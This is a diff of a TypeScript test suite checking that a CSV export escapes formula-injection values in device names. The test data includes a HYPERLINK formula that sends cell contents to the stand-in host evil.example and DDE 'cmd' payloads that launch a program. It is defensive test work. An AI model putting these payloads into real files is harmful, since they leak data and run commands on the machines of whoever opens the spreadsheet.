@@ -6,8 +6,8 @@ import { startTestSystem, type TestSystem } from '../helpers/system.ts';
 /** Names an attacker (or an unlucky person) might give a device, and what the export must write. */
 const NAMES: [stored: string, exported: string][] = [
   ['=HYPERLINK("http://evil.example/?"&A2,"click")', `'=HYPERLINK("http://evil.example/?"&A2,"click")`],
-  ['+1+cmd|\' /C calc\'!A0', `'+1+cmd|' /C calc'!A0`],
-  ['-2+3+cmd|\' /C calc\'!A0', `'-2+3+cmd|' /C calc'!A0`],
+  ["+1+cmd|' /C calc'!A0", `'+1+cmd|' /C calc'!A0`],
+  ["-2+3+cmd|' /C calc'!A0", `'-2+3+cmd|' /C calc'!A0`],
   ['@SUM(1+1)', `'@SUM(1+1)`],
   ["'=already quoted", "''=already quoted"],
   ["''+two quotes", "'''+two quotes"],
@@ -34,7 +34,12 @@ describe('CSV export and re-import', () => {
   beforeAll(async () => {
     [source, target] = await Promise.all([startTestSystem(), startTestSystem()]);
     for (const [i, [name]] of NAMES.entries()) {
-      await source.addDevice(`dev-${i}`, 'acme', { name, species: i === 0 ? '=1+1' : 'giraffe', nickname: i === 3 ? '@nick' : null, tagModel: i === 2 ? '-model' : null });
+      await source.addDevice(`dev-${i}`, 'acme', {
+        name,
+        species: i === 0 ? '=1+1' : 'giraffe',
+        nickname: i === 3 ? '@nick' : null,
+        tagModel: i === 2 ? '-model' : null,
+      });
     }
     await source.addDevice('-lead', 'acme', { msisdn: '+46701234567', iccid: '89254021234567890121', interval: 600 });
     await target.api('POST', '/api/customers', { id: 'acme', name: 'Acme' });
@@ -48,7 +53,8 @@ describe('CSV export and re-import', () => {
     expect(res.status).toBe(200);
     const rows = parse(await res.text(), { columns: true }) as Record<string, string>[];
     const plainNumber = /^[+-]?\d+(\.\d+)?$/;
-    for (const row of rows) for (const cell of Object.values(row)) if (!plainNumber.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
+    for (const row of rows)
+      for (const cell of Object.values(row)) if (!plainNumber.test(cell)) expect(cell, cell).not.toMatch(/^[=+\-@\t\r]/);
     const byId = new Map(rows.map((r) => [r.deviceId, r]));
     for (const [i, [, exported]] of NAMES.entries()) expect(byId.get(`dev-${i}`)!.name).toBe(exported);
     expect(byId.get('dev-0')!.species).toBe("'=1+1");
